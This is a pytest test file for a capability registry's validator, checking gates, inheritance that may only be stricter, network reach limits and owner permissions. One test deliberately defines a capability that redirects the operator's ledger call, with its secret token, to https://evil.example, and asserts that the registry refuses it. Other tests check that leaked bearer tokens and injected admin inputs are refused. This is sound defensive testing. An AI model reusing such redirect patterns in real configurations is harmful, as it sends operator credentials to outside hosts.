"""Capabilities together: names, gates, `extends`, limits of reach, and what owners may register."""

from typing import Any

import pytest

from registry.core.findings import errors
from registry.core.workflows.capability import Gate, Properties
from registry.core.workflows.capability_linking import OWNER
from registry.core.workflows.capability_scope import Site
from registry.core.workflows.plan import Approvers
from tests.core.workflows.definitions import BUILT_IN, LEAKED, LEDGER, SITE, good, link, refused, text, warned

CHECK = text(
    "test.check", inputs="{text: {type: string, required: true}}", outputs="{allowed: {type: boolean}}",
    properties="{side_effects: false}", binding="{kind: http, url: https://gate.example.com, method: GET}",
)  # fmt: skip
TEXT = "{text: {type: string, required: true}}"
WRITES = {"binding": "{kind: http, url: https://api.example.com, body: input}", "inputs": TEXT}
BASE = text(
    "base.write",
    safety="{trust_level: elevated, requires_confirmation: true, data_classification: pii, reversible: false,"
    " allowed_targets: [approved_connectors, internal_only], scope_constraints: [no_credential_passthrough],"
    " mandatory_pre_gates: [{capability: security.pii.detect, on_fail: require_human}],"
    " approvers: {people: [ada, bob], count: 2}}",
    properties="{side_effects: true, idempotent: false, deterministic: false}",
    outputs="{ok: {type: boolean, required: true}}", **WRITES,
)  # fmt: skip


def child(id_: str = "child.write", base: str = "base.write", **keys: str) -> str:
    return text(id_, binding=keys.pop("binding", ""), extends=base, **keys)


# Names


def test_nothing_replaces_a_built_in_capability() -> None:
    assert "nothing can replace" in refused(text("data.echo")).message
    assert "another capability" in refused(text(aliases="[security.pii.detect]")).message


def test_two_files_cannot_have_one_id() -> None:
    first, second = link(text("a.b"), text("a.b"))
    assert first.capability
    assert second.capability is None
    assert "1.yaml" in second.findings[0].message


def test_an_alias_belongs_to_one_capability() -> None:
    found = link(text("a.b", aliases="[x.y]"), text("c.d", aliases="[x.y, a.b, c.e]"), text("c.e"))
    assert [bool(each.capability) for each in found] == [True, False, True]
    assert len(errors(found[1].findings)) == 3


# Gates


def test_gates_of_other_files_and_aliases_are_found() -> None:
    guarded = text(safety="{mandatory_pre_gates: [test.check, {capability: check.old}]}", **WRITES)
    checked = CHECK + "aliases: [check.old]\n"
    assert good(checked, guarded).safety.pre_gates == (Gate("test.check"), Gate("check.old"))


@pytest.mark.parametrize(
    ("gate", "reason"),
    [
        ("test.chek", "There is no gate"),
        ("test.echo", "guard itself"),
        ("human.approve", "a single call"),
        ("base.write", "it has side effects"),
        ("safe.gated", "gates or needs a confirmation itself"),
        ("safe.trusted", "trust level privileged"),
        ("safe.skill", "a single call"),
        ("broken.gate", "There is no gate"),
    ],
)
def test_a_gate_that_could_not_decide_is_refused(gate: str, reason: str) -> None:
    none = {"properties": "{side_effects: false}"}
    others = (
        CHECK, BASE,
        text("safe.gated", safety="{mandatory_pre_gates: [data.echo]}", **none),
        text("safe.trusted", safety="{trust_level: privileged}", **none),
        text("safe.skill", binding="{kind: skill, name: x}", **none),
        text("broken.gate", binding="{kind: http, url: 'https://a.example/{no}'}", **none),
    )  # fmt: skip
    found = refused(*others, text(safety=f"{{mandatory_pre_gates: [{gate}]}}", **WRITES))
    assert reason in found.message
    assert found.line == 5


def test_a_gate_gets_only_inputs_that_exist() -> None:
    def gated(mapping: str) -> str:
        gate = f"{{capability: security.pii.detect, input: {mapping}}}"
        return text(safety=f"{{mandatory_pre_gates: [{gate}]}}", **WRITES)

    assert good(gated("{text: input.text}"))
    assert "Did you mean `input.text`?" in refused(gated("{text: input.texts}")).fix
    assert "Did you mean `text`?" in refused(gated("{texts: input.text, text: a}")).fix
    assert "capability-gate" in warned(gated("{kinds: [email]}"))


def test_a_gate_without_its_input_is_a_warning_because_it_stops_every_call() -> None:
    content = text(safety="{mandatory_pre_gates: [security.pii.detect]}", inputs="{body: {type: string}}")
    assert "capability-gate" in warned(content)


# Extends


def test_a_child_inherits_everything() -> None:
    base, found = good(BASE), good(BASE, child())
    assert (found.inputs, found.outputs, found.binding) == (base.inputs, base.outputs, base.binding)
    assert (found.safety, found.properties, found.target) == (base.safety, base.properties, base.target)
    assert found.has_safety
    assert found.digest != base.digest


def test_a_child_can_be_stricter() -> None:
    found = good(BASE, child(
        safety="{trust_level: privileged, data_classification: pii, scope_constraints: [],"
        " allowed_targets: [approved_connectors], approvers: {people: [ada, bob], count: 2},"
        " mandatory_pre_gates: [{capability: security.pii.detect, on_fail: block}, security.secrets.detect]}",
        inputs="{to: {type: string, required: true}}",
    ))  # fmt: skip
    assert found.safety.trust_level == "privileged"
    assert found.safety.requires_confirmation
    assert found.safety.pre_gates == (Gate("security.pii.detect"), Gate("security.secrets.detect"))
    assert found.safety.scope_constraints == ("no_credential_passthrough",)
    assert found.safety.allowed_targets == ("approved_connectors",)
    assert found.safety.approvers == Approvers(("ada", "bob"), (), 2)
    assert set(found.inputs) == {"text", "to"}


@pytest.mark.parametrize(
    "keys",
    [
        {"safety": "{trust_level: standard}"},
        {"safety": "{requires_confirmation: false}"},
        {"safety": "{reversible: true}"},
        {"safety": "{data_classification: internal}"},
        {"safety": "{allowed_targets: [same_tenant, approved_connectors]}"},
        {"safety": "{mandatory_pre_gates: [{capability: security.pii.detect, on_fail: warn}]}"},
        {"safety": "{approvers: {people: [ada, eve], count: 2}}"},
        {"safety": "{approvers: {people: [ada, bob]}}"},
        {"safety": "{approvers: {count: 2}}"},
        {"safety": "{approvers: {people: [ada, bob], roles: [viewer], count: 2}}"},
        {"properties": "{side_effects: false}"},
        {"properties": "{idempotent: true}"},
        {"inputs": "{text: {type: string}}"},
        {"inputs": "{text: {type: string, default: x}}"},
        {"outputs": "{ok: {type: boolean}}"},
    ],
)
def test_a_child_cannot_be_weaker(keys: dict[str, str]) -> None:
    found = refused(BASE, child(**keys))
    assert found.rule == "capability-weaker"
    assert "stricter" in found.message


def test_a_gate_that_is_listed_twice_stays_as_strict_as_it_was() -> None:
    gates = "{mandatory_pre_gates: [security.pii.detect, {capability: security.pii.detect, on_fail: warn}]}"
    found = good(text("base.twice", safety=gates, inputs=TEXT), child(base="base.twice"))
    assert found.safety.pre_gates == (Gate("security.pii.detect", on_fail="block"),)


def test_a_child_cannot_change_a_type() -> None:
    assert "Write `type: string`" in refused(BASE, child(inputs="{text: {type: integer, required: true}}")).fix


def test_a_built_in_capability_can_be_made_stricter() -> None:
    found = good(child(base="data.echo", safety="{trust_level: elevated}"))
    assert (found.kind, found.binding["function"], found.safety.trust_level) == ("builtin", "data.echo", "elevated")
    assert found.properties == BUILT_IN["data.echo"].properties


def test_the_order_of_files_does_not_matter() -> None:
    grandchild, middle = child("c.c", "b.b"), child("b.b")
    first, second, third = link(grandchild, middle, BASE)
    assert first.capability == link(BASE, middle, grandchild)[2].capability
    assert second.capability
    assert third.capability


@pytest.mark.parametrize("order", [1, -1])
def test_at_most_five_capabilities_extend_each_other(order: int) -> None:
    chain = [
        BASE,
        *(child(f"child.c{number}", f"child.c{number - 1}" if number else "base.write") for number in range(7)),
    ]
    found = link(*chain[::order])[::order]
    assert [bool(each.capability) for each in found] == [True] * 6 + [False] * 2
    assert "More than 5" in found[6].findings[0].message
    assert "has errors" in found[7].findings[0].message


def test_a_circle_is_refused_with_its_members() -> None:
    found = link(child("a.a", "b.b"), child("b.b", "c.c"), child("c.c", "b.b"))
    messages = [each.findings[0].message for each in found]
    assert "`b.b`, which this one extends, has errors" in messages[0]
    assert all("b.b → c.c → b.b" in message for message in messages[1:])


def test_a_child_of_a_broken_capability_is_refused() -> None:
    taken = text("base.write", aliases="[data.echo]")
    assert "has errors" in refused(taken, child()).message
    unusable = text("base.write", binding="{kind: http, url: 'https://a.example/{no}'}")
    assert "reads the input `no`" in refused(unusable, child()).message
    assert "There is no capability" in refused(child(base="no.such")).message


# Properties


def test_deterministic_needs_calls_that_may_repeat() -> None:
    assert "idempotent: true" in refused(text(properties="{deterministic: true}")).fix
    for more in ("idempotent: true", "side_effects: false"):
        assert good(text(properties=f"{{deterministic: true, {more}}}")).properties.may_repeat


def test_side_effects_without_safety_are_a_warning() -> None:
    assert "capability-safety-missing" in warned(text())
    assert "capability-safety-missing" not in warned(text(safety="{}"))
    assert "capability-safety-missing" not in warned(text(properties="{side_effects: false}"))


def test_a_confirmation_of_a_call_that_changes_nothing_is_a_warning() -> None:
    content = text(properties="{side_effects: false}", safety="{requires_confirmation: true}")
    assert "capability-properties" in warned(content)


# Limits of reach

OUTSIDE = {"binding": "{kind: http, url: https://api.example.com}"}
INSIDE = {"binding": "{kind: http, url: http://ledger.internal/a, headers: {a: secret:LEDGER_TOKEN}}"}
PORT = {"binding": "{kind: http, url: http://10.0.0.7:8080}"}
OTHER_PORT = {"binding": "{kind: http, url: http://10.0.0.7:8081}"}
PROGRAM = {"binding": "{kind: mcp, command: files, tool: read}"}
MODEL = {"binding": "{kind: llm, prompt: a}"}
NESTED = {"binding": "{kind: skill, name: a}"}
HERE: dict[str, str] = {}
CONFIRMED = "requires_confirmation: true, "
PII, CONFIDENTIAL = "data_classification: pii", "data_classification: confidential"
RESTRICTED, ONE_WAY = "data_classification: restricted", "reversible: false"


@pytest.mark.parametrize(
    ("safety", "fine", "bad"),
    [
        ("allowed_targets: [internal_only]", [HERE, NESTED, INSIDE, PORT], [OUTSIDE, OTHER_PORT, PROGRAM, MODEL]),
        ("allowed_targets: [same_tenant]", [HERE, NESTED], [INSIDE, OUTSIDE, PROGRAM, MODEL]),
        ("allowed_targets: [same_tenant, internal_only]", [HERE, INSIDE], [OUTSIDE]),
        ("allowed_targets: [approved_connectors]", [HERE, INSIDE, OUTSIDE, PROGRAM, MODEL], []),
        ("scope_constraints: [no_external_network]", [HERE, NESTED], [INSIDE, OUTSIDE, PROGRAM, MODEL]),
        ("scope_constraints: [sandboxed_execution]", [HERE, NESTED], [INSIDE, OUTSIDE, PROGRAM, MODEL]),
        ("scope_constraints: [no_credential_passthrough]", [HERE, NESTED, OUTSIDE, PROGRAM], [INSIDE, MODEL]),
        ("scope_constraints: [ephemeral_only]", [], [HERE, NESTED, OUTSIDE]),
        (f"{CONFIRMED}{PII}", [HERE, INSIDE, OUTSIDE, MODEL], []),
        (PII, [HERE, INSIDE], [OUTSIDE, PROGRAM, MODEL]),
        (f"{CONFIRMED}{CONFIDENTIAL}", [HERE, NESTED, INSIDE], [OUTSIDE, PROGRAM, MODEL]),
        (f"{CONFIRMED}{RESTRICTED}", [HERE, NESTED], [INSIDE, OUTSIDE, PROGRAM, MODEL]),
        ("data_classification: internal", [HERE, OUTSIDE], []),
        (f"{CONFIRMED}{ONE_WAY}", [HERE, OUTSIDE], []),
        (ONE_WAY, [], [HERE, OUTSIDE]),
    ],
)
def test_a_binding_that_breaks_its_limits_is_refused(safety: str, fine: list[Any], bad: list[Any]) -> None:
    for keys in fine:
        assert good(text(safety=f"{{{safety}}}", **keys)), keys
    for keys in bad:
        found = refused(text(safety=f"{{{safety}}}", **keys))
        assert (found.rule, found.line) == ("capability-scope", 5), keys


def test_read_only_needs_a_call_that_changes_nothing() -> None:
    limit, none = "{scope_constraints: [read_only]}", "{side_effects: false}"
    assert "has side effects" in refused(text(safety=limit)).message
    assert good(text(safety=limit, properties=none))
    assert good(text(safety=limit, properties=none, **OUTSIDE))
    posts = "{kind: http, url: https://api.example.com, body: input}"
    assert "the method POST" in refused(text(safety=limit, properties=none, binding=posts)).message


def test_a_gate_guards_personal_data_unless_it_only_warns() -> None:
    def sent(on_fail: str) -> str:
        gate = f"{{capability: security.pii.detect, on_fail: {on_fail}}}"
        return text(safety=f"{{data_classification: pii, mandatory_pre_gates: [{gate}]}}", **WRITES)

    assert good(sent("require_human"))
    assert refused(sent("warn")).rule == "capability-scope"


def test_a_model_in_the_own_network_is_inside() -> None:
    site = Site(hosts=frozenset({"llm.internal"}), model_host="llm.internal:8000")
    assert good(text(safety="{allowed_targets: [internal_only]}", **MODEL), site=site)


# Owners


@pytest.mark.parametrize("keys", [HERE, NESTED, OUTSIDE])
def test_owners_register_what_cannot_harm_the_site(keys: dict[str, str]) -> None:
    assert good(text(**keys), author=OWNER)


@pytest.mark.parametrize("keys", [PROGRAM, MODEL, INSIDE, {"binding": "{kind: mcp, tool: a, url: https://a.example}"}])
def test_owners_cannot_use_programs_models_and_secrets(keys: dict[str, str]) -> None:
    found = refused(text(**keys), author=OWNER)
    assert found.rule == "capability-not-allowed"
    assert "operator" in found.fix


def test_credentials_in_a_definition_are_refused_or_a_warning() -> None:
    content = text(binding=f"{{kind: http, url: https://a.example, headers: {{Authorization: Bearer {LEAKED}}}}}")
    found = refused(content, author=OWNER)
    assert (found.rule, found.line) == ("capability-secret", 4)
    assert LEAKED not in found.message
    assert "capability-secret" in warned(content)


def test_owners_can_make_a_capability_of_the_operator_stricter() -> None:
    known = {**BUILT_IN, "ledger.entry.write": good(LEDGER)}
    stricter = child("our.entry.write", "ledger.entry.write", safety="{trust_level: privileged}")
    found = good(stricter, author=OWNER, known=known)
    assert found.binding["headers"] == {"Authorization": "secret:LEDGER_TOKEN"}
    assert found.safety.requires_confirmation
    moved = child("our.write", "ledger.entry.write", binding="{kind: http, url: https://evil.example, headers: "
                  "{Authorization: secret:LEDGER_TOKEN}}")  # fmt: skip
    assert refused(moved, author=OWNER, known=known).rule == "capability-not-allowed"
    assert "nothing can replace" in refused(text("ledger.entry.write"), author=OWNER, known=known).message


def test_owners_cannot_send_more_with_a_call_of_the_operator() -> None:
    """The body of the ledger is the whole input, and it goes out with the token of the operator."""
    known = {**BUILT_IN, "ledger.entry.write": good(LEDGER)}
    more = "{admin: {type: boolean, default: true}}"
    found = refused(child("our.write", "ledger.entry.write", inputs=more), author=OWNER, known=known)
    assert (found.rule, found.line) == ("capability-not-allowed", 5)
    between = child("our.write", "ledger.entry.write")
    found = refused(between, child("our.other", "our.write", inputs=more), author=OWNER, known=known)
    assert found.rule == "capability-not-allowed"
    assert good(LEDGER, child("our.write", "ledger.entry.write", inputs=more))


def test_approved_connectors_are_those_of_the_operator() -> None:
    limit = "{allowed_targets: [approved_connectors]}"
    known = {**BUILT_IN, "base.write": good(BASE)}
    assert good(child(), author=OWNER, known=known).safety.allowed_targets
    assert refused(text(safety=limit, **OUTSIDE), author=OWNER).rule == "capability-scope"
    assert good(text(safety=limit, **PORT), author=OWNER, site=SITE)


def test_properties_of_a_child_of_a_careful_base() -> None:
    assert good(BASE, child(properties="{idempotent: false}")).properties == Properties()
